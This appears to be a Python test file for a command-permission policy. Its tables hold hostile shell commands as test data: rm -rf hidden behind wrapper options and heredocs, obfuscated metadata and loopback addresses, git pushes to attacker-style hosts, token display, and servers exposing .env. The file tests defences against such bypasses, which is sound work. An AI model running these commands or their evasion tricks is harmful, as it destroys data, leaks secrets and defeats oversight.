"""What programs do by options and operands that look harmless: nothing of it is covered, or escapes what is denied."""

# ruff: noqa: E501 -- tables of cases: a line each
from __future__ import annotations

import pytest

from executor_permissions import Policy
from tests.plugins.permissions.test_guards import misjudged

DENIED = {
    "patterns": ["rm -rf *", "*169.254.169.254*", "curl *127.0.0.1*"],
    "arguments": {"readFile": {"path": ["${project}/.env"]}, "writeFile": {"path": ["${project}/.git/"]}},
}


@pytest.fixture
def verdict(tmp_path):
    """By a policy that allows what is not denied."""
    root = tmp_path.resolve() / "project"
    for folder in ("src", ".git"):
        (root / folder).mkdir(parents=True)
    (root / ".env").write_text("A=b\n")
    (root / "own.py").touch()
    (root / "src/pkg.py").touch()
    rules = {"defaultPolicy": "allow", "blacklist": DENIED}
    policy = Policy.from_dict(rules, project_root=root, home=tmp_path)

    def verdict(command):
        decision = policy.decide("runCommand", {"command": command})
        assert decision.method != "error", decision.reason
        return decision.verdict

    return verdict


# Rows of (pattern, what it covers, what it does not).
COVERED = [
    ("ss *", ["ss -tlnp", "ss -ltn sport = :22", "ss state established '( dport = :443 or dport = :https )'", "ss dst 10.0.0.0/8", "ss dst '[::1]:80'"],
     ["ss dst x.evil.example", "ss x.evil.example", "ss -t '( dst x.evil.example:443 )'", "ss src beef.cafe", "ss -tn dst=x.evil.example"]),
    ("lsof *", ["lsof -i :3000", "lsof -i4TCP@127.0.0.1:80", "lsof -nP -iTCP -sTCP:LISTEN", "lsof a.txt"],
     ["lsof -i @x.evil.example", "lsof -i@x.evil.example:443", "lsof -iTCP@x.evil.example", "lsof -i tcp@beef.cafe"]),
    ("curl *", ["curl --proto =https https://x", "curl -L --proto-redir =http,HTTPS https://x", "curl --proto '=https,-ftp' https://x"],
     ["curl -L --proto-redir =file,http http://h/", "curl -L --proto-redir +all http://h/", "curl --proto =http,,+file -L http://h", "curl --proto-r -all,=file http://h", "curl --proto-redir -http,+-+file http://h", "curl --proto-redir gopher http://h"]),
    ("docker *", ["docker attach c", "docker start -ai c"], ["docker attach c <<< id", "docker start -ai c <<< id", "docker container attach c <<< id", "docker compose attach c <<< id"]),
    ("kubectl *", [], ["kubectl attach -i p <<< id"]),
    ("zip *", ["zip -r a.zip src", "zip -m a.zip a"], ["zip -m a.zip /x/f", "zip -m a.zip ../f", "zip --move a.zip ../f", "zip a.zip -m .git/x"]),
    ("tar --remove-files *", ["tar --remove-files -cf a.tar src"], ["tar --remove-files -cf a.tar ../x", "tar --remove-files -cf a.tar .git"]),
    ("rsync --remove-source-files *", ["rsync --remove-source-files src/ b"], ["rsync --remove-source-files ../x b", "rsync --remove-source-files -a .git b"]),
    ("make *", ["make", "make -j4 test lint", "make build/a.o", "make a.out", "make V=1 all"],
     ["make test .env.out", "make test 'lib.a(.env)'", "make /tmp/x", "make ../x", "make src/../../x", "make '~/x'", "make x.out", "make .env.c", "make src/.env.o", "make a.sh", "make a,v"]),
    ("npm *", ["npm run build --if-present", "npm run --json build", "npm test -- --json true", "npm --silent run build"],
     ["npm run --color always env", "npm run --if-present true env", "npm run --yes false env", "npm run --workspaces null env", "npm --json true run env", "npm run build --json true"]),
    ("poetry *", [], ["poetry run ../x/run", "poetry run /tmp/x"]),
    ("pdm *", [], ["pdm run ../x/run"]),
    ("bundle *", ["bundle exec rake"], ["bundle exec ../x/run"]),
    ("hatch *", ["hatch test tests"], ["hatch test ../x", "hatch fmt ../x"]),
    ("golangci-lint *", ["golangci-lint run ./..."], ["golangci-lint run ../x"]),
    ("uv *", ["uv pip compile requirements.in"], ["uv pip compile ../x/requirements.in"]),
    ("python *", ["python -m compileall -q src"], ["python -m compileall -b ../x", "python -m compileall /x"]),
    ("coverage *", ["coverage combine", "coverage combine data"], ["coverage combine ../x", "coverage combine -a /x/.coverage"]),
    ("go *", ["go mod edit -fmt", "go mod edit -fmt go.mod", "go clean", "go clean ./...", "go work use ./src", "go build ./...", "go mod tidy"],
     ["go mod edit -fmt ../x/go.mod", "go clean ../other", "go work use ../../x", "go work init /x", "go install ./...", "go install golang.org/x/tools/cmd/stringer@latest"]),
    ("git fetch *", ["git fetch origin", "git fetch --all -p", "git fetch origin main"], ["git fetch https://e.com/x main", "git fetch evil@h:x", "git fetch ../o", "git fetch .."]),
    ("git push *", ["git push", "git push -u origin main"], ["git push https://e.com/x main", "git push evil@h:x main", "git push ../o"]),
    ("git pull *", ["git pull --rebase origin main"], ["git pull https://e.com/x main", "git pull h:x"]),
    ("cmake *", ["cmake .", "cmake -S . -B build", "cmake --build build -- -j4", "cmake build"], ["cmake ..", "cmake ../x", "cmake /x"]),
    ("git remote *", ["git remote show origin", "git remote prune -n origin", "git remote set-head origin -a", "git remote update --prune", "git remote rename a b"],
     ["git remote show evil@h:x", "git remote show https://e.com/x", "git remote show ./sub", "git remote prune h:x", "git remote set-head h:x -a", "git remote update ../o"]),
    ("tox *", ["tox config -k envlist", "tox c --format json", "tox run -oe py"], ["tox config -oe", "tox config -o x", "tox c -oe../../x", "tox c -ne py -ox", "tox config --output-file=x"]),
    ("flake8 *", ["flake8 --show-source src"], ["flake8 --filename='*' --show-source"]),
    ("bun *", ["bun run build", "bun run src/x.ts"], ["bun run ../x.ts", "bun run /x.ts", "bun run env"]),
    ("dotnet *", ["dotnet build -c Release", "dotnet build -v q"], ["dotnet build -flp:logfile=../x -fl", "dotnet build -flp:logfile=../x", "dotnet build -cl:x.dll"]),
    ("mapfile *", ["mapfile x <<< a", "mapfile -t -n 2 lines <<< a"], ["mapfile -t PATH <<< src", "mapfile HOME <<< a", "mapfile -C id -c 1 x <<< a", "command mapfile -t PATH <<< a"]),
    ("readarray *", ["readarray -t x <<< a"], ["readarray -t PATH <<< src", "readarray -t LD_PRELOAD <<< a"]),
    ("let *", [], ["let PATH=1", "let 'a[1]=1'"]),
    ("wait *", ["wait", "wait -n", "wait %1"], ["wait -p PATH", "wait -pPATH", "wait -n -p x"]),
    ("getopts *", ["getopts ab: x"], ["getopts ab PATH", "command getopts a HOME"]),
    ("pytest *", ["pytest --cache-show", "pytest --cache-show=cache/lastfailed", "pytest --cache-show='cache/*'"],
     ["pytest --cache-show=../../x.json", "pytest --cache-show=cache/../../../x.json", "pytest --cache-show=/x", "python -m pytest --cache-show=../../x.json"]),
    ("dotnet *", ["dotnet test", "dotnet build src"], ["dotnet test ../x", "dotnet build ../x/x.csproj"]),
    ("kubectl *", ["kubectl label pod x a=b", "kubectl annotate deployment/x a=b -o yaml"], ["kubectl label secret db a=b -o json", "kubectl patch secrets/db -p '{}' -o yaml", "kubectl annotate pod,secret a=b -o yaml"]),
    ("gh auth status *", ["gh auth status", "gh auth status --active"], ["gh auth status -t", "gh auth status --show-token"]),
    ("docker *", ["docker top c", "docker top c aux"], ["docker top c e", "docker top c axe"]),
    ("npx *", ["npx --yes eslint ."], ["npx --yes true env", "npx --no-install false eslint"]),
    ("pnpm *", ["pnpm run --silent build"], ["pnpm run --silent true env"]),
    ("find * -delete", ["find src -delete"], ["find /x -delete", "find .git -delete", "find ../x -delete"]),
]  # fmt: skip


@pytest.mark.parametrize("row", COVERED, ids=lambda row: row[0])
def test_a_rule_covers_no_more_than_its_words_say(row):
    assert misjudged([row]) == []


def test_a_variable_in_front_is_set_to_a_plain_word_only(tmp_path):
    """Make takes what is in its environment for text of its own: ``$(shell …)`` in it is run."""
    rules = {"whitelist": {"patterns": ["make *", "export *", "npm test"]}}
    policy = Policy.from_dict(rules, project_root=tmp_path, home=tmp_path)
    values = ["$(shell id)", "; id;", "`id`", "-p evil", "-pevil", "a b", "/x", "../x", "a|b", "é"]
    frames = ["DEBUG='{}' make", "env CI='{}' make", "export LANG='{}'; make", "TERM='{}'; make", "for LC_X in '{}'; do make; done", "for f in *; do VERBOSE=$f make; done"]  # fmt: skip
    lines = [frame.format(value) for frame in frames for value in values]
    assert [line for line in lines if verdict_of(policy, line) == "allow"] == []
    free = ["DEBUG=1 make", "DEBUG='*' npm test", "DEBUG=app:* npm test", "TZ=Europe/Berlin make", "LANG=C.UTF-8 make", "export CI=true; make", "export LANG; make", "for LANG in C de_DE.UTF-8; do make; done"]  # fmt: skip
    assert [line for line in free if verdict_of(policy, line) != "allow"] == []


# Rows of (what a denying rule may be about, what is allowed beside it).
CAUGHT = [
    (["curl -sL --proto-redir =file http://h/", "curl -sL --proto-redi +all http://h/", "curl --proto =http,file -L http://h"],
     ["curl --proto =https -sSf https://x", "curl -L --proto-redir =https https://x"]),
    (["python -m fire subprocess run '[\"rm\",\"-rf\",\"x\"]'", "x --run='[\"rm\", \"-rf\", \"x\"]'", "python -m IPython -c '!rm -rf x'", "echo '!rm -rf x' | python -m IPython"],
     ["python -m fire x '[\"ls\",\"-rf\",\"x\"]'", "x '[rm]'"]),
    (["zip -m a.zip .git/x", "zip -qm a.zip .git", "find .git -delete", "tar --remove-files -cf a.tar .git", "rsync --remove-source-files .git/x src"],
     ["zip -r a.zip src", "zip -m a.zip own.py", "find src -delete"]),
    # what options of wrappers run, and options that take no value
    (["strace -o '|rm -rf x' true", "strace -o '!rm -rf x' true", "strace -f -o'|rm -rf x' ls", "strace --output='|rm -rf x' ls", "rlwrap -z 'rm -rf x' cat", "fakeroot -f 'rm -rf x' ls",
      "systemd-run -p ExecStartPre='rm -rf x' true", "systemd-run --property=ExecStopPost='-rm -rf x' ls", "dbus-run-session --dbus-daemon='rm -rf x' ls", "xvfb-run --server-args='; rm -rf x' ls",
      "valgrind --db-command='rm -rf x' ls", "strace -E PAGER='rm -rf x' git log", "setarch -R rm -rf x", "setarch -R -- rm -rf x", "setarch x86_64 rm -rf x", "setarch --addr-no-randomize rm -rf x",
      "setarch x86_64 -R rm -rf x", "strace -n rm -rf x", "strace -D rm -rf x", "ltrace -b rm -rf x", "systemd-run -t rm -rf x", "systemd-run -G rm -rf x", "rlwrap -a rm -rf x", "chrt -b rm -rf x",
      "env -a ls rm -rf x", "watch -s d rm -rf x", "unshare --setgroups deny rm -rf x"],
     ["strace -f -e trace=file -o out ls", "systemd-run --user -p MemoryMax=1G ls", "timeout -s KILL 5 ls", "sudo -u rm psql", "ssh -o StrictHostKeyChecking=no -p 22 h ls", "setarch -R ls", "chrt 10 ls"]),
    # what is sent to a shell, here or elsewhere
    (["ssh h <<< 'rm -rf x'", "echo 'rm -rf x' | ssh h", "ssh h bash <<< 'rm -rf x'", "ssh h 'cd a; bash -s' <<< 'rm -rf x'", "sudo -s <<< 'rm -rf x'", "chroot /x <<< 'rm -rf x'", "unshare -r <<< 'rm -rf x'",
      "bash -c bash <<< 'rm -rf x'", "echo 'rm -rf x' | sh -c bash", "sh -c 'ed a' <<< '!rm -rf x'", "docker attach c <<< 'rm -rf x'", "docker start -ai c <<< 'rm -rf x'", "docker container attach c <<< 'rm -rf x'",
      "kubectl attach -i p <<< 'rm -rf x'", "adb shell <<< 'rm -rf x'", "docker exec -i c sh <<< 'rm -rf x'"],
     ["ssh h <<< ls", "bash -c bash <<< ls", "bash <<< bash", "tar c src | ssh h 'tar x'", "echo a | ssh h 'cat > x'", "git log | bash -c 'grep x'", "docker start c", "echo y | docker system prune"]),
    # what shows files that nobody names
    (["python -m http.server 80 --bind 0.0.0.0", "timeout 5 python3 -m http.server", "python3.12 -m http.server", "pypy3 -umhttp.server", "python -X dev -W error -m http.server", "cd src && python -m http.server -d ..", "npx http-server", "npx --yes http-server@14 . -p 80", "npx serve", "yarn dlx serve",
      "php -S 0.0.0.0:80", "caddy file-server", "ruby -run -e httpd . -p 80", "docker compose config", "docker compose -f a.yml config", "docker-compose convert", "dotenv list", "python -m dotenv list", "honcho run env"],
     ["python -m http.server -d src", "python -m http.server --directory=src 80", "cd src && python -m http.server", "npx serve src", "php -S 0.0.0.0:80 -t src", "mkdocs serve", "npm run serve", "caddy run",
      "docker compose config --services", "docker compose config -q", "docker compose up -d", "docker ps", "terraform output", "php x.php", "python x.py -m http.server"]),
    # what looks for the files that fit a pattern itself
    (["prettier --check --parser=json '.e*'", "prettier --check '**/.*'", "prettier --check **/.e*", "prettier --parser yaml '{.env,a}'", "prettier --check '@(.env)'", "prettier '.[e]nv'", "prettier './.en?'",
      "prettier --check --parser=yaml .", "prettier --parser yaml -c .",
      "prettier --check src '!(src)'", "npx prettier --check '.e*'", "npx --yes prettier@3 '**/.e*'", "eslint --no-ignore '.e*'", "eslint '**/*'", "cd src && prettier '../.e*'", "timeout 5 prettier '.e*'"],
     ["prettier --check .", "prettier --check 'src/**/*'", "prettier --check '**/*.{js,ts}'", "prettier --check . '!**/*.md'", "npx prettier --check 'src/*.ts'", "eslint 'src/**/*.[jt]s'",
      "eslint --fix src own.py", "npx eslint .", "prettier -c README.md", "prettier --parser babel src own.py"]),
    # an archive that fits one
    (["unzip -p '.e*'", "unzip -l '.[e]nv'", "zipinfo -1 '.en?'", "cd src && unzip '../.e*'"], ["unzip -l 'x*.zip'", "unzip -p x.zip '.e*'", "unzip -o a.zip '*'"]),
    # addresses, in another form and among other words
    (["curl 'http://[::ffff:a9fe:a9fe]/'", "curl 'http://[::ffff:7f00:1]:80/'", "curl 'http://[0:0:0:0:0:ffff:a9fe:a9fe]/'", "wget 'http://[::ffff:a9fe:a9fe]/'", "wget 'http://[64:ff9b::a9fe:a9fe]/'",
      "curl '[::ffff:7f00:1]/x'", "curl --connect-to ::0x7f000001: http://a", "curl --connect-to 'a:80:[::ffff:7f00:1]:80' http://a", "curl --resolve a:80:0x7f000001 http://a", "curl --resolve a:80:::ffff:7f00:1 http://a",
      "curl --resolve a.b:80:8.8.8.8,0x7f.1 http://a.b", "curl -x0x7f000001:80 http://a", "curl -sx0x7f.1 http://a", "nc 2852039166 80", "nc -v ::ffff:a9fe:a9fe 80", "ssh me@0xa9fea9fe", "ping 169.254.43518",
      "socat - TCP:0xa9fea9fe:80", "git clone 'http://[::ffff:a9fe:a9fe]/x'"],
     ["curl 'http://[::1]:80/x'", "curl -m 5 --resolve a:80:10.0.0.1 http://a", "nc -l 8080", "ssh -p 22 h ls -1", "ping -c 3 10.0.0.1", "curl --connect-to ::b:80 http://a"]),
]  # fmt: skip


@pytest.mark.parametrize(("caught", "others"), CAUGHT, ids=lambda row: row[0])
def test_what_may_be_denied_is_not_allowed(verdict, caught, others):
    assert [command for command in caught if verdict(command) == "allow"] == []
    assert [command for command in others if verdict(command) != "allow"] == []


OF_PYTHON = [
    "ruff check", "ruff -q check .", "ruff format --diff kept", "black --diff kept", "flake8", "flake8 --show-source .", "isort --diff .", "mypy", "mypy --pretty kept", "pyflakes .", "pycodestyle --show-source kept",
    "python -m black --diff .", "python3 -m ruff check kept", "timeout 60 ruff check .", "cd src && ruff check ..", "uv run ruff check",
]  # fmt: skip
FORMATTED = ["prettier .", "prettier --check .", "npx prettier -l kept", "cd src && prettier ../kept", "prettier --write src kept"]  # fmt: skip
LINTED = ["eslint", "eslint . -f json", "npx eslint kept"]
WHATEVER = ["prettier --parser babel ."]
CHECKED = {
    "key.py": OF_PYTHON + WHATEVER,
    "key.yaml": FORMATTED + WHATEVER,
    "key.mjs": FORMATTED + LINTED + WHATEVER,
    "key": WHATEVER,
}


@pytest.mark.parametrize("name", CHECKED)
def test_what_checks_files_shows_those_below_its_folder(tmp_path, name):
    for folder in ("src", "kept"):
        (tmp_path / folder).mkdir()
    rules = {"defaultPolicy": "allow", "blacklist": {"arguments": {"readFile": {"path": ["${project}/kept/key*"]}}}}
    policy = Policy.from_dict(rules, project_root=tmp_path)
    free = ["ruff check src", "ruff --version", "mypy --version", "eslint src", "prettier src", "black src", "ruff rule E1"]  # fmt: skip
    commands = [*OF_PYTHON, *FORMATTED, *LINTED, *WHATEVER, *free]
    assert [command for command in commands if verdict_of(policy, command) != "allow"] == []
    (tmp_path / "kept" / name).touch()
    assert [command for command in commands if verdict_of(policy, command) != "allow"] == CHECKED[name]


def test_a_module_that_nothing_is_known_about_is_one_of_the_project(tmp_path):
    (tmp_path / "src/pkg").mkdir(parents=True)
    (tmp_path / "own.py").touch()
    policy = Policy.from_dict({"whitelist": {"patterns": ["python *", "uv *"]}}, project_root=tmp_path)
    covered = ["own", "own -c x", "pkg.cli", "src.pkg", "pytest -q", "build", "venv .venv", "pip list"]
    others = ["IPython", "IPython -c x", "IPython.terminal", "fire os system x", "xonsh -c x", "django shell -c x", "nbconvert --execute x", "dotenv run -- x"]  # fmt: skip
    for way in ("python -m ", "python -um", "timeout 5 python -m ", "uv run python -m "):
        assert [name for name in (*covered, *others) if verdict_of(policy, way + name) != "allow"] == others, way


def verdict_of(policy, command):
    return policy.decide("runCommand", {"command": command}).verdict


def test_each_target_of_a_builder_is_a_command_of_its_own(tmp_path):
    forbidden = ["make deploy *", "make clean", "mvn deploy *", "gradle publish", "rake deploy *", "just deploy *", "invoke deploy", "ninja install"]  # fmt: skip
    policies = [
        Policy.from_dict({"defaultPolicy": "allow", "blacklist": {"patterns": forbidden}}, project_root=tmp_path),
        Policy.from_dict(
            {"whitelist": {"patterns": ["make *"]}, "ask": {"patterns": ["make deploy *"]}}, project_root=tmp_path
        ),
    ]
    caught = ["make test deploy", "make V=1 deploy", "make -j4 test deploy", "make test clean", "make clean x", "make X=1 clean", "make clean X=", "make Y:=1 X=2 test clean -j4", "make test ./deploy", "xargs make test deploy", "/usr/bin/make test deploy", "make test 'dep'loy",
              "mvn -q clean deploy", "gradle build publish", "rake test deploy", "just test deploy", "invoke test deploy", "ninja all install", "make $X deploy",
              "make " + " ".join(f"t{i}" for i in range(200)) + " deploy"]  # fmt: skip
    assert [command for command in caught if verdict_of(policies[0], command) == "allow"] == []
    assert [
        command
        for command in ("make test deploy", "make -k test deploy")
        if verdict_of(policies[1], command) == "allow"
    ] == []
    others = [
        "make test",
        "make -j4 test lint",
        "mvn clean install",
        "gradle build",
        "just test",
        "make deployed",
        "make cleanup",
    ]
    assert [command for command in others if verdict_of(policies[0], command) != "allow"] == []


def test_what_is_built_is_the_project_from_wherever_it_is_named(tmp_path):
    (tmp_path / "build").mkdir()
    policy = Policy.from_dict({"whitelist": {"patterns": ["cmake *", "cd *", "mkdir *"]}}, project_root=tmp_path)
    for command, expected in (("cd build && cmake ..", "allow"), ("mkdir -p build && cd build && cmake ..", "allow"), ("cmake ..", "ask"), ("cd build; cmake ..", "ask"), ("cd build && cmake ../..", "ask")):  # fmt: skip
        assert verdict_of(policy, command) == expected, command
